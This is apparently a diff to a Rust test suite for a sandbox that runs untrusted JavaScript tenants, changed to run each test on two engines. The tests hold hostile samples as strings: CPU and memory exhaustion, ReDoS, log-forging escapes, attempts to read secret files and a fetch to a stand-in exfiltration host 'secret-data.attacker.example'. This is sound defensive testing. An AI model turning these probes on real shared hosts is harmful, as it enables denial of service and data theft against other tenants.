@@ -12,13 +12,37 @@ use http_body_util::Full;
 use portcullis_operators::jail::Layer;
 use portcullis_operators::{Cause, OperatorConfig};
 
-use support::{Chunks, Host, Then, eventually};
+use support::{Chunks, Host, Kind, Then, eventually};
+
+on_each_engine! {
+    async loops_are_ended;
+    async waiting_for_ever_ends_the_request_and_not_the_process;
+    async cpu_burnt_in_small_pieces_is_charged;
+    async work_without_a_request_is_bounded;
+    async memory_is_bounded_of_every_kind;
+    async failures_in_a_handler_cost_at_most_its_process;
+    async a_crash_loop_is_paused_and_said;
+    async bodies_are_bounded_in_both_directions;
+    async a_body_that_never_comes_is_the_clients_fault;
+    async an_endless_trickle_ends_with_the_time_limit;
+    async more_requests_at_once_than_allowed_are_refused;
+    async responses_that_are_none_are_refused;
+    async a_flood_of_log_lines_is_cut;
+    async nothing_is_reachable_by_any_name;
+    async what_code_made_at_run_time_imports_is_out_of_reach;
+    async changing_the_shims_surroundings_gains_nothing;
+    async clocks_are_too_coarse_to_watch_the_machine_with;
+    async refused_destinations_are_not_looked_up;
+    async (flavor = "multi_thread", worker_threads = 2) what_belongs_to_another_operator_is_out_of_reach;
+    async an_operator_cannot_listen_where_others_connect;
+    async a_burst_over_many_attackers_leaves_the_neighbour_well;
+}
 
 const NEIGHBOUR: &str = "export default { fetch() { return new Response('well'); } };";
 
 /// Serves the attacker beside a neighbour.
-async fn beside(code: &str, change: impl FnOnce(&mut OperatorConfig)) -> Host {
-    let host = Host::new();
+async fn beside(engine: Kind, code: &str, change: impl FnOnce(&mut OperatorConfig)) -> Host {
+    let host = Host::new(engine);
     let attacker = host.operator("attacker", code, change);
     host.serve(vec![attacker, host.operator("neighbour", NEIGHBOUR, |_| {})]).await;
     host
@@ -33,8 +57,14 @@ async fn neighbour_is_well(host: &Host) {
 }
 
 /// One request ends with the cause; the operator answers again afterwards at `/ok`, if it is meant to.
-async fn check(code: &str, change: impl FnOnce(&mut OperatorConfig), path: &str, causes: &[Cause]) -> Host {
-    let host = beside(code, change).await;
+async fn check(
+    engine: Kind,
+    code: &str,
+    change: impl FnOnce(&mut OperatorConfig),
+    path: &str,
+    causes: &[Cause],
+) -> Host {
+    let host = beside(engine, code, change).await;
     let result = host.get("attacker", path).await;
     let cause = result.as_ref().err().copied();
     assert!(cause.is_some_and(|cause| causes.contains(&cause)), "{result:?}\n{}", host.log("attacker"));
@@ -54,40 +84,49 @@ fn handler(attack: &str) -> String {
     )
 }
 
-#[tokio::test]
-async fn loops_are_killed_and_replaced() {
+async fn loops_are_ended(engine: Kind) {
     for attack in [
         "for (;;) {}",
         "/^(a+)+$/.test('a'.repeat(60) + 'b');",
         "const again = (): Promise<void> => Promise.resolve().then(again); await again();",
     ] {
-        let host =
-            check(&handler(attack), |config| config.limits.cpu = Duration::from_millis(200), "/", &[Cause::CpuTime])
-                .await;
-        eventually("the process was killed", async || {
-            host.metric("portcullis_operator_ends_total.operator.attacker.reason.operator_stalled") == 1
-        })
+        let host = check(
+            engine,
+            &handler(attack),
+            |config| config.limits.cpu = Duration::from_millis(200),
+            "/",
+            &[Cause::CpuTime],
+        )
         .await;
+        match engine {
+            Kind::Deno => {
+                eventually("the process was killed", async || {
+                    host.metric("portcullis_operator_ends_total.operator.attacker.reason.operator_stalled") == 1
+                })
+                .await;
+            }
+            // It ends the loop, and the process goes on.
+            Kind::Runner => assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1),
+        }
     }
 }
 
-#[tokio::test]
-async fn waiting_for_ever_ends_the_request_and_not_the_process() {
+async fn waiting_for_ever_ends_the_request_and_not_the_process(engine: Kind) {
     let limit = |config: &mut OperatorConfig| config.limits.wall = Duration::from_millis(300);
-    let host = check(&handler("await new Promise(() => {});"), limit, "/", &[Cause::WallTime]).await;
+    let host = check(engine, &handler("await new Promise(() => {});"), limit, "/", &[Cause::WallTime]).await;
     assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
 }
 
-#[tokio::test]
-async fn cpu_burnt_in_small_pieces_is_charged() {
+async fn cpu_burnt_in_small_pieces_is_charged(engine: Kind) {
     let attack = "for (;;) { const end = performance.now() + 20; while (performance.now() < end); await new Promise(r => setTimeout(r, 1)); }";
-    check(&handler(attack), |config| config.limits.cpu = Duration::from_millis(300), "/", &[Cause::CpuTime]).await;
+    check(engine, &handler(attack), |config| config.limits.cpu = Duration::from_millis(300), "/", &[Cause::CpuTime])
+        .await;
 }
 
-#[tokio::test]
-async fn work_without_a_request_is_bounded() {
+async fn work_without_a_request_is_bounded(engine: Kind) {
     let attack = "setInterval(() => { const end = performance.now() + 50; while (performance.now() < end); }, 51);";
-    let host = beside(&handler(attack), |config| config.limits.background_cpu = Duration::from_millis(300)).await;
+    let host =
+        beside(engine, &handler(attack), |config| config.limits.background_cpu = Duration::from_millis(300)).await;
     host.text("attacker", "/").await;
     eventually("it was killed", async || {
         host.metric("portcullis_operator_ends_total.operator.attacker.reason.operator_background_cpu") >= 1
@@ -96,8 +135,7 @@ async fn work_without_a_request_is_bounded() {
     neighbour_is_well(&host).await;
 }
 
-#[tokio::test]
-async fn memory_is_bounded_of_every_kind() {
+async fn memory_is_bounded_of_every_kind(engine: Kind) {
     let small = |config: &mut OperatorConfig| {
         config.limits.heap_bytes = 32 << 20;
         config.limits.memory_bytes = 96 << 20;
@@ -111,17 +149,16 @@ async fn memory_is_bounded_of_every_kind() {
         "let text = 'x'; for (;;) { text += text; kept.push(new TextEncoder().encode(text)); }",
         "for (;;) kept.push(new Blob([new Uint8Array(1 << 20).fill(1)]));",
     ] {
-        check(&handler(attack), small, "/", &causes).await;
+        check(engine, &handler(attack), small, "/", &causes).await;
     }
 }
 
-#[tokio::test]
-async fn failures_in_a_handler_cost_at_most_its_process() {
+async fn failures_in_a_handler_cost_at_most_its_process(engine: Kind) {
     let deep = "const f = (): number => 1 + f(); f();";
-    let host = check(&handler(deep), |_| {}, "/", &[Cause::Exception]).await;
+    let host = check(engine, &handler(deep), |_| {}, "/", &[Cause::Exception]).await;
     assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
     let later = "setTimeout(() => { throw new Error('later'); }, 1); Promise.reject(new Error('rejected')); await new Promise(r => setTimeout(r, 50)); throw 5;";
-    let host = check(&handler(later), |_| {}, "/", &[Cause::Exception]).await;
+    let host = check(engine, &handler(later), |_| {}, "/", &[Cause::Exception]).await;
     assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
     assert!(host.log("attacker").contains("Error: later") && host.log("attacker").contains("Error: rejected"));
     // Node's way out, for code that may make code.
@@ -130,13 +167,12 @@ async fn failures_in_a_handler_cost_at_most_its_process() {
         config.dangerously_allow_code_generation = true;
         config.limits.wall = Duration::from_millis(3_000);
     };
-    check(&handler(leave), limit, "/", &[Cause::Crashed, Cause::WallTime]).await;
+    check(engine, &handler(leave), limit, "/", &[Cause::Crashed, Cause::WallTime]).await;
 }
 
-#[tokio::test]
-async fn a_crash_loop_is_paused_and_said() {
+async fn a_crash_loop_is_paused_and_said(engine: Kind) {
     let code = handler("for (;;) kept.push(new Array(1000).fill({}));");
-    let host = beside(&code, |config| {
+    let host = beside(engine, &code, |config| {
         config.limits.heap_bytes = 16 << 20;
         config.limits.memory_bytes = 64 << 20;
         config.limits.cpu = Duration::from_millis(20_000);
@@ -147,18 +183,24 @@ async fn a_crash_loop_is_paused_and_said() {
     while causes.len() < 12 && !causes.contains(&Cause::CrashLoop) {
         causes.extend(host.get("attacker", "/").await.err());
     }
-    assert!(causes.contains(&Cause::CrashLoop) && causes[0] == Cause::Memory, "{causes:?}");
+    match engine {
+        Kind::Deno => assert!(causes.contains(&Cause::CrashLoop) && causes[0] == Cause::Memory, "{causes:?}"),
+        // Its process does not end for want of memory.
+        Kind::Runner => {
+            assert!(causes.iter().all(|cause| *cause == Cause::Memory), "{causes:?}");
+            assert_eq!(host.metric("portcullis_operator_starts_total.operator.attacker"), 1);
+        }
+    }
     neighbour_is_well(&host).await;
 }
 
-#[tokio::test]
-async fn bodies_are_bounded_in_both_directions() {
+async fn bodies_are_bounded_in_both_directions(engine: Kind) {
     let code = handler(
         "const n = Number(new URL(request.url).searchParams.get('n')); if (n) return new Response('x'.repeat(n)); \
          if (request.method === 'POST') return new Response(String((await request.arrayBuffer()).byteLength)); \
          return new Response(new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(10000)); } }));",
     );
-    let host = beside(&code, |config| {
+    let host = beside(engine, &code, |config| {
         config.limits.request_bytes = 1000;
         config.limits.response_bytes = 50_000;
     })
@@ -179,10 +221,9 @@ async fn bodies_are_bounded_in_both_directions() {
     neighbour_is_well(&host).await;
 }
 
-#[tokio::test]
-async fn a_body_that_never_comes_is_the_clients_fault() {
+async fn a_body_that_never_comes_is_the_clients_fault(engine: Kind) {
     let code = handler("await request.text();");
-    let host = beside(&code, |config| config.limits.wall = Duration::from_millis(300)).await;
+    let host = beside(engine, &code, |config| config.limits.wall = Duration::from_millis(300)).await;
     let request = Request::post("http://a/").body(Chunks::new(&[10], Then::Hang)).unwrap();
     let error = host.operators.call("attacker", request).await.err();
     assert_eq!(error.map(|error| error.cause), Some(Cause::RequestTime));
@@ -190,20 +231,18 @@ async fn a_body_that_never_comes_is_the_clients_fault() {
     neighbour_is_well(&host).await;
 }
 
-#[tokio::test]
-async fn an_endless_trickle_ends_with_the_time_limit() {
+async fn an_endless_trickle_ends_with_the_time_limit(engine: Kind) {
     let code = handler(
         "return new Response(new ReadableStream({ async pull(c) { c.enqueue(new Uint8Array(1)); await new Promise(r => setTimeout(r, 20)); } }));",
     );
-    let host = beside(&code, |config| config.limits.wall = Duration::from_millis(400)).await;
+    let host = beside(engine, &code, |config| config.limits.wall = Duration::from_millis(400)).await;
     assert_eq!(host.get("attacker", "/").await.unwrap_err(), Cause::WallTime);
     neighbour_is_well(&host).await;
 }
 
-#[tokio::test]
-async fn more_requests_at_once_than_allowed_are_refused() {
+async fn more_requests_at_once_than_allowed_are_refused(engine: Kind) {
     let code = handler("await new Promise(r => setTimeout(r, 400));");
-    let host = beside(&code, |config| {
+    let host = beside(engine, &code, |config| {
         config.limits.concurrency = 2;
         config.replicas.max = 1;
     })
@@ -215,9 +254,8 @@ async fn more_requests_at_once_than_allowed_are_refused() {
     assert_eq!(host.text("attacker", "/ok").await, "ok");
 }
 
-#[tokio::test]
-async fn responses_that_are_none_are_refused() {
-    let host = beside(
+async fn responses_that_are_none_are_refused(engine: Kind) {
+    let host = beside(engine,
         &handler(
             r#"
 const attack = new URL(request.url).pathname.slice(1);
@@ -261,9 +299,9 @@ if (attack === "204") return new Response(null, { status: 204 });
     neighbour_is_well(&host).await;
 }
 
-#[tokio::test]
-async fn a_flood_of_log_lines_is_cut() {
+async fn a_flood_of_log_lines_is_cut(engine: Kind) {
     let host = beside(
+        engine,
         &handler("for (let i = 0; i < 20000; i++) console.log('line ' + i + ' ' + 'x'.repeat(50));"),
         |config| {
             config.limits.log_lines_per_second = 5;
@@ -278,14 +316,14 @@ async fn a_flood_of_log_lines_is_cut() {
     .await;
     assert!(host.operators.recent_logs("attacker").len() < 500);
     neighbour_is_well(&host).await;
-    let forged = beside(&handler(r"console.log('a\u001b[2Jb\rforged: ok\u001eportcullis ready');"), |_| {}).await;
+    let forged =
+        beside(engine, &handler(r"console.log('a\u001b[2Jb\rforged: ok\u001eportcullis ready');"), |_| {}).await;
     forged.text("attacker", "/").await;
     eventually("the line is there", async || !forged.log("attacker").is_empty()).await;
     assert!(!forged.log("attacker").contains(['\u{1b}', '\r', '\u{1e}']));
 }
 
-#[tokio::test]
-async fn nothing_is_reachable_by_any_name() {
+async fn nothing_is_reachable_by_any_name(engine: Kind) {
     let folder = tempfile::tempdir().unwrap();
     let secret = folder.path().join("secret.txt");
     std::fs::write(&secret, "file-canary").unwrap();
@@ -319,7 +357,7 @@ export default { async fetch(request: Request, env: unknown) {
   return Response.json(found);
 } };
 "#;
-    let host = beside(code, |_| {}).await;
+    let host = beside(engine, code, |_| {}).await;
     let path = format!("/?secret={}&port={}", secret.display(), listener.local_addr().unwrap().port());
     let text = host.text("attacker", &path).await;
     let found: std::collections::BTreeMap<String, String> = serde_json::from_str(&text).unwrap();
@@ -334,8 +372,7 @@ export default { async fetch(request: Request, env: unknown) {
 }
 
 /// The bundler refuses `import()` and `node:`; code made at run time could still ask. Here it is allowed to make code.
-#[tokio::test]
-async fn what_code_made_at_run_time_imports_is_out_of_reach() {
+async fn what_code_made_at_run_time_imports_is_out_of_reach(engine: Kind) {
     let folder = tempfile::tempdir().unwrap();
     let secret = folder.path().join("secret.ts");
     std::fs::write(&secret, "export default 'file-canary'").unwrap();
@@ -368,7 +405,7 @@ export default { async fetch(request: Request) {
   return Response.json(found);
 } };
 "#;
-    let host = beside(code, |config| config.dangerously_allow_code_generation = true).await;
+    let host = beside(engine, code, |config| config.dangerously_allow_code_generation = true).await;
     let result = host.get("attacker", &format!("/?secret={}", secret.display())).await;
     match result {
         Ok(response) => {
@@ -386,8 +423,7 @@ export default { async fetch(request: Request) {
     neighbour_is_well(&host).await;
 }
 
-#[tokio::test]
-async fn changing_the_shims_surroundings_gains_nothing() {
+async fn changing_the_shims_surroundings_gains_nothing(engine: Kind) {
     let origin = support::Origin::start().await;
     let code = format!(
         r#"
@@ -406,7 +442,7 @@ export default {{ async fetch() {{
 "#,
         origin.port
     );
-    let host = beside(&code, |_| {}).await;
+    let host = beside(engine, &code, |_| {}).await;
     assert_eq!(host.get("attacker", "/").await.unwrap_err(), Cause::Exception);
     eventually("the log has it", async || !host.log("attacker").is_empty()).await;
     assert_eq!(origin.connections(), 0);
@@ -414,8 +450,7 @@ export default {{ async fetch() {{
 }
 
 /// What a neighbour does shows in the time that one's own work takes, if one can measure it finely enough.
-#[tokio::test]
-async fn clocks_are_too_coarse_to_watch_the_machine_with() {
+async fn clocks_are_too_coarse_to_watch_the_machine_with(engine: Kind) {
     let code = r#"
 const steps = (clock: () => number) => { let least = Infinity, last = clock(); const end = Date.now() + 150; while (Date.now() < end) { const now = clock(); if (now !== last) { least = Math.min(least, now - last); last = now; } } return least; };
 const any = globalThis as any;
@@ -439,7 +474,7 @@ export default { fetch() {
   return Response.json(found);
 } };
 "#;
-    let host = beside(code, |_| {}).await;
+    let host = beside(engine, code, |_| {}).await;
     let found: serde_json::Value = serde_json::from_str(&host.text("attacker", "/").await).unwrap();
     assert_eq!(found["threads"], 0, "{found}");
     assert!(found["now"].is_number(), "{found}");
@@ -452,8 +487,7 @@ export default { fetch() {
 }
 
 /// A refusal says the same, as fast, whether or not there is something at the other end: nothing is even resolved.
-#[tokio::test]
-async fn refused_destinations_are_not_looked_up() {
+async fn refused_destinations_are_not_looked_up(engine: Kind) {
     #[derive(Debug, Default)]
     struct Asked(std::sync::Mutex<Vec<String>>);
     impl portcullis_operators::Resolve for Asked {
@@ -467,7 +501,7 @@ async fn refused_destinations_are_not_looked_up() {
         }
     }
     let asked = std::sync::Arc::new(Asked::default());
-    let host = Host::with_resolver(|_| {}, std::sync::Arc::<Asked>::clone(&asked));
+    let host = Host::with_resolver(engine, |_| {}, std::sync::Arc::<Asked>::clone(&asked));
     let code = handler(
         "const of = async (url: string) => { try { await fetch(url); return 'answered'; } catch (e) { return String(e); } };\n\
          return Response.json([await of('http://granted.example/'), await of('http://secret-data.attacker.example/'), await of('http://granted.example:81/')]);",
@@ -481,9 +515,8 @@ async fn refused_destinations_are_not_looked_up() {
 
 /// From inside a jail, with all of the engine's permissions and raw system calls: the neighbour's process, its sockets, its
 /// store, and the host that both belong to.
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn what_belongs_to_another_operator_is_out_of_reach() {
-    let host = Host::new();
+async fn what_belongs_to_another_operator_is_out_of_reach(engine: Kind) {
+    let host = Host::new(engine);
     // Readable as far as modes go, so that the jail alone is what denies.
     use std::os::unix::fs::PermissionsExt;
     std::fs::set_permissions(host.folder.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
@@ -548,14 +581,13 @@ Deno.exit(0);
     assert_eq!(host.metric("portcullis_operator_starts_total.operator.neighbour"), 1);
 }
 
-#[tokio::test]
-async fn an_operator_cannot_listen_where_others_connect() {
+async fn an_operator_cannot_listen_where_others_connect(engine: Kind) {
     // The engine's socket is the process's own; taking its place is only possible for code that escaped the engine, and
     // what the host then connects to is checked. Here the surface that the contract leaves.
     let code = handler(
         "if ('Deno' in globalThis) return new Response('Deno is there'); const s = (await (globalThis as any).navigator?.serial?.requestPort?.()); return new Response(String(s));",
     );
-    let host = beside(&code, |_| {}).await;
+    let host = beside(engine, &code, |_| {}).await;
     assert_eq!(host.text("attacker", "/").await, "undefined");
     for path in ["/load", "/ping"] {
         let request =
@@ -564,9 +596,8 @@ async fn an_operator_cannot_listen_where_others_connect() {
     }
 }
 
-#[tokio::test]
-async fn a_burst_over_many_attackers_leaves_the_neighbour_well() {
-    let host = Host::new();
+async fn a_burst_over_many_attackers_leaves_the_neighbour_well(engine: Kind) {
+    let host = Host::new(engine);
     let mut operators = vec![host.operator("neighbour", NEIGHBOUR, |_| {})];
     for (name, attack) in [
         ("loop", "for (;;) {}"),
